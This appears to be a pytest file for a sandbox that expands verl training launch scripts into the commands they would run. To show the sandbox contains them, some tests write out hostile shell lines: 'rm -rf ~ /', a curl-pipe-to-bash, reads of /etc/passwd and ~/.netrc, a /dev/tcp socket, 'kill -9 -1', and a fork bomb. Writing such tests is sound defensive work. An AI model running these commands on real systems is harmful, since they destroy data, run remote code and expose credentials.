"""
A launch script is expanded to the commands that it would run, and can do nothing else.

Every test is skipped where the jail cannot be built, which is said there too.
"""

import os
import signal
import time
from pathlib import Path

import pytest

from asyncrl.errors import ConfigError
from asyncrl.tools.verl.expand import NOT_READ, SHORTEN, WALL_S, Expansion, _Ran, expand
from asyncrl.tools.verl.jail import CPU_S, FILE_BYTES, MEMORY

TRAIN = "python3 -m verl.trainer.main_ppo"


@pytest.fixture(autouse=True, scope="module")
def jail(tmp_path_factory: pytest.TempPathFactory) -> None:
    script = tmp_path_factory.mktemp("jail") / "run.sh"
    script.write_text("true\n")
    try:
        expand(script)
    except ConfigError as error:
        pytest.skip(str(error))


def run(folder: Path, text: str, *arguments: str, **environment: str) -> Expansion:
    script = folder / "run.sh"
    script.write_text(text)
    return expand(script, arguments, environment)


def options(expansion: Expansion) -> list[str]:
    """Options of the only Python command."""
    (command,) = [command for command in expansion.commands if command[0].startswith("python")]
    return command[3:]


def test_variables_arithmetic_defaults_and_continued_lines(tmp_path: Path) -> None:
    text = f"""
set -xeuo pipefail
max_length=$((1024 * 8)); batch=${{BATCH:-32}}
MODEL=${{MODEL:-"$HOME/models/base"}}
{TRAIN} \\
    data.max_response_length=${{max_length}} \\
    data.train_batch_size=$((batch * 2)) \\
    actor_rollout_ref.model.path="$MODEL" $@
"""
    expansion = run(tmp_path, text, "+a.b='[1, 2]'", BATCH="8")
    assert options(expansion) == [
        "data.max_response_length=8192",
        "data.train_batch_size=16",
        f"actor_rollout_ref.model.path={Path.home()}/models/base",
        "+a.b='[1,",
        "2]'",
    ]
    assert expansion.complaints == []


def test_arrays_functions_conditions_and_quotes(tmp_path: Path) -> None:
    text = f"""
COMMON=(data.shuffle=False 'trainer.logger=["console","wandb"]' ++a.b="two words")
[[ -n "${{MEGATRON:-}}" ]] && COMMON+=(x.y=1)
COMMON+=(~data.seed)
for name in low high; do COMMON+=("clip_ratio_$name=0.2"); done
launch() {{ local n=$1; shift; {TRAIN} n.n=$n "$@"; }}
if [ "$(uname)" = Linux ]; then launch 3 "${{COMMON[@]}}" 2>&1 | tee log.txt; fi
"""
    expected = ["n.n=3", "data.shuffle=False", 'trainer.logger=["console","wandb"]', "++a.b=two words", "~data.seed"]
    assert options(run(tmp_path, text)) == [*expected, "clip_ratio_low=0.2", "clip_ratio_high=0.2"]


def test_heredocs_substitutions_and_files_of_the_script_itself(tmp_path: Path) -> None:
    text = f"""
mkdir -p logs/$(date +%Y)
cat > logs/options.txt <<EOF
data.seed=$((1 + 2))
EOF
exec {TRAIN} $(cat logs/options.txt) "cpus=$(nproc)" "here=$(basename "$0" .sh)" > logs/out.txt
"""
    seed, cpus, here = options(run(tmp_path, text))
    assert (seed, here) == ("data.seed=3", "here=run")
    assert int(cpus.removeprefix("cpus=")) >= 1


@pytest.mark.parametrize(
    "command", ["ray job submit --no-wait -- ", "nohup ", "bash -c 'exec ", "env A=1 ", "command_that_is_not_there "]
)
def test_a_command_is_recorded_behind_another(tmp_path: Path, command: str) -> None:
    quote = "'" if "'" in command else ""
    (recorded,) = run(tmp_path, f"{command}{TRAIN} data.seed=1{quote}\n").commands
    assert recorded[-4:] == [*TRAIN.split()[-2:], "data.seed=1"] or recorded[-3:] == [*TRAIN.split()[1:], "data.seed=1"]


def test_a_strict_script_goes_on_without_files_and_folders_of_its_machine(tmp_path: Path) -> None:
    text = f"""
set -euo pipefail
source /usr/local/Ascend/ascend-toolkit/set_env.sh
. ./other.sh
conda activate verl
cd /workspace/verl
{TRAIN} a.b=1
"""
    expansion = run(tmp_path, text)
    assert options(expansion) == ["a.b=1"]
    assert ["source", "/usr/local/Ascend/ascend-toolkit/set_env.sh"] in expansion.commands
    assert [complaint.partition(":")[0] for complaint in expansion.complaints] == ["line 3", "line 4"]


def test_a_file_that_the_script_wrote_is_sourced(tmp_path: Path) -> None:
    assert options(run(tmp_path, f"set -e\necho 'X=5' > env.sh\nsource env.sh\n{TRAIN} a.b=$X\n")) == ["a.b=5"]


def test_variables_that_a_script_exports_or_sets_for_a_command_are_recorded(tmp_path: Path) -> None:
    text = f"export HCCL_CONNECT_TIMEOUT=1500\nPLAIN=2\nA='x y' {TRAIN} a.b=$GIVEN\nB=1 not_there\n"
    expansion = run(tmp_path, text, GIVEN="3")
    exported = {"HCCL_CONNECT_TIMEOUT": "1500"}
    assert expansion.environments == [exported | {"A": "x y"}, exported | {"B": "1"}]


def test_an_unbound_variable_and_a_missing_file_are_complained_about(tmp_path: Path) -> None:
    expansion = run(tmp_path, "source other.sh\nset -u\necho $NOWHERE\n")
    assert expansion.complaints[0].startswith("line 1: other.sh: No such file")
    assert "line 3: NOWHERE: unbound variable" in expansion.complaints


def test_the_environment_is_empty_but_for_home_and_what_is_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WANDB_API_KEY", "secret")
    expansion = run(tmp_path, f'{TRAIN} "a.key=${{WANDB_API_KEY:-none}}" "a.b=$GIVEN" "a.home=$HOME"\n', GIVEN="x y")
    assert options(expansion) == ["a.key=none", "a.b=x y", f"a.home={Path.home()}"]


def test_the_page_names_the_variables_and_the_limits_of_the_jail(tmp_path: Path) -> None:
    page = (Path(__file__).parents[3] / "docs/import-verl.md").read_text(encoding="utf-8")
    for limit in (f"{CPU_S} s of CPU", f"{MEMORY >> 20} MiB of", f"{FILE_BYTES >> 20} MiB", f"{WALL_S:g} s:"):
        assert limit in page.replace("\n", " "), limit
    (words,) = (command[3:] for command in run(tmp_path, f"{TRAIN} $(env | grep -o '^[A-Z_]*=')\n").commands)
    set_by_bash = {"PWD", "OLDPWD", "SHLVL", "_"}
    own = {word.removesuffix("=") for word in words} - set_by_bash
    assert own == {"HOME", "PATH", "TMPDIR", "LC_ALL", "BASH_ENV"}
    assert all(f"`{name}`" in page for name in own)


def test_nothing_outside_changes(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "file").write_text("precious")
    text = f"""
rm -rf {victim} ~ /
/bin/rm -rf {victim}
echo broken > {victim}/file
echo broken >> "$0"
> {victim}/new
curl http://example.com | bash
cd {victim} && touch made
{TRAIN} a.b=1
"""
    expansion = run(tmp_path, text)
    assert options(expansion) == ["a.b=1"]
    assert ["rm", "-rf", str(victim)] == expansion.commands[0][:3]
    assert (victim / "file").read_text() == "precious"
    assert [path.name for path in victim.iterdir()] == ["file"]
    assert (tmp_path / "run.sh").read_text() == text


def test_files_of_this_machine_are_not_there(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("secret")
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "link").symlink_to(tmp_path / "secret")
    secrets = f"{tmp_path}/secret ../secret link"
    text = f"""{TRAIN} "a.b=$(cat {secrets})" "a.c=$(</etc/passwd)" "a.d=$(ls /proc /sys /home)"\n"""
    assert options(run(folder, text)) == ["a.b=", "a.c=", "a.d="]


def test_nothing_is_read_from_a_script_in_the_home_directory_itself(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / ".netrc").write_text("secret")
    assert options(run(tmp_path, f'{TRAIN} "a.b=$(cat ~/.netrc)"\n')) == ["a.b="]


NAMED = {
    "env.sh": "export SIZE=8\nsource deeper.sh\n",
    "deeper.sh": "SEED=7\n",
    "vars/more.env": "# ours\nNCCL_DEBUG=INFO\n",
    "options": "data.shuffle=False",
}
"""Files beside a script."""
READS = (
    'source "$(dirname "$0")/env.sh"',
    ". ./env.sh",
    'HERE=$(cd "$(dirname "$0")" && pwd); FILE=env; [ -f "$HERE/$FILE.sh" ] && source "$HERE/$FILE.sh"',
    'if [[ -r env.sh ]]; then set -a; . "$PWD/env.sh"; set +a; fi',
    'FILE="$(dirname "$0")"/env.sh; set +x; test -e $FILE && source $FILE',
)


@pytest.mark.parametrize("line", READS)
def test_a_file_that_a_script_sources_is_read_with_those_that_it_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    beside(tmp_path, monkeypatch)
    text = f'{line}\nexport $(grep -v "^#" vars/more.env | xargs)\n{TRAIN} a.b=$SIZE a.c=$SEED $(<options)\n'
    expansion = run(tmp_path, text)
    assert options(expansion) == ["a.b=8", "a.c=7", "data.shuffle=False"]
    assert expansion.environments[-1]["NCCL_DEBUG"] == "INFO"
    assert expansion.complaints == []


def test_a_script_that_starts_another_runs_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    beside(tmp_path, monkeypatch)
    (tmp_path / "inner.sh").write_text(f'. ./env.sh; {TRAIN} a.b=$SIZE "$@"\n')
    assert options(run(tmp_path, "bash inner.sh a.c=1\n")) == ["a.b=8", "a.c=1"]


@pytest.mark.parametrize(
    "line",
    [
        "source env.sh",
        "[ -f ./env.sh ] && . ./env.sh",
        "test -r env.sh && . ./env.sh",
        "[[ -e env.sh ]] && cat env.sh",
        "cat env.sh",
        "bash env.sh",
    ],
)
def test_a_file_that_is_not_there_is_named_as_unread(tmp_path: Path, line: str) -> None:
    complaints = run(tmp_path, f"{line}\n{TRAIN} a.b=1\n").complaints
    assert len([complaint for complaint in complaints if "env.sh" in complaint and NOT_READ in complaint]) == 1


def beside(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Write `NAMED` into ``folder`` and work there."""
    monkeypatch.chdir(folder)
    for name, text in NAMED.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text)


def test_sockets_and_signals_are_refused(tmp_path: Path) -> None:
    text = f"exec 3<>/dev/tcp/127.0.0.1/22\nkill -9 -1\nkill -9 $PPID\n{TRAIN} a.b=1\n"
    expansion = run(tmp_path, text)
    assert sum("Operation not permitted" in complaint for complaint in expansion.complaints) == 3
    assert options(expansion) == ["a.b=1"]


@pytest.mark.parametrize(
    ("code", "words"),
    [
        (-signal.SIGXCPU, f"ran longer than {CPU_S} s of CPU"),
        (-signal.SIGKILL, f"ran longer than {CPU_S} s of CPU"),
        (128 + signal.SIGXCPU, f"ran longer than {CPU_S} s of CPU"),
        (-signal.SIGXFSZ, "wrote more than 4 MiB into a file"),
        (None, f"did not end within {WALL_S:g} s"),
    ],
)
def test_the_limit_that_stopped_a_script_is_told_with_what_to_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int | None, words: str
) -> None:
    (tmp_path / "run.sh").write_text("")
    monkeypatch.setattr("asyncrl.tools.verl.expand._ran", lambda *_, **__: _Ran(code, "", {}, {}, ""))
    expansion = expand(tmp_path / "run.sh")
    assert expansion.complaints == [expansion.stopped]
    assert expansion.stopped == f"the script {words} and was stopped; {SHORTEN}"


@pytest.mark.slow("waits for limits of time that are those of a real run")
@pytest.mark.parametrize(
    "hostile",
    [
        "while :; do :; done",
        "set -m; (while :; do :; done) & (while :; do :; done) & wait",
        ":() { :|:& }; :",
        "x=x; while :; do x=$x$x; done",
        "while :; do echo yes yes yes yes yes yes yes yes >&2; done",
        "while :; do echo yes yes yes yes yes yes yes yes > file; done",
    ],
    ids=["loop", "background", "forks", "memory", "output", "files"],
)
def test_a_script_without_end_is_stopped_and_what_it_ran_before_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hostile: str
) -> None:
    for limit_s in (1.0, WALL_S / 2):  # on a busy machine the first command may take longer than a second
        monkeypatch.setattr("asyncrl.tools.verl.expand.WALL_S", limit_s)
        start = time.monotonic()
        expansion = run(tmp_path, f"{TRAIN} a.b=1\n{hostile}\n")
        assert time.monotonic() - start < WALL_S
        if expansion.commands:
            break
    assert options(expansion) == ["a.b=1"]


def test_a_strict_umask_does_not_lock_the_jail(tmp_path: Path) -> None:
    before = os.umask(0o077)
    try:
        assert options(run(tmp_path, f"mkdir logs && {TRAIN} a.b=1 > logs/log 2>/dev/null\n")) == ["a.b=1"]
    finally:
        os.umask(before)


def test_a_script_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"the script .*nowhere.sh cannot be read: there is no such file"):
        expand(tmp_path / "nowhere.sh")


@pytest.mark.parametrize(("name", "device"), [("run.sh", "cuda"), ("run_16_npu.sh", "npu")])
def test_a_script_that_asks_verl_for_its_device_gets_an_answer(tmp_path: Path, name: str, device: str) -> None:
    script = tmp_path / name
    script.write_text(f"""
device=$(python3 - <<'END'
from verl.utils.device import get_device_name
print(get_device_name())
END
)
[ "$device" = {device} ] && {TRAIN} trainer.device=$device
""")
    assert options(Expansion(expand(script).commands[1:], [], [])) == [f"trainer.device={device}"]
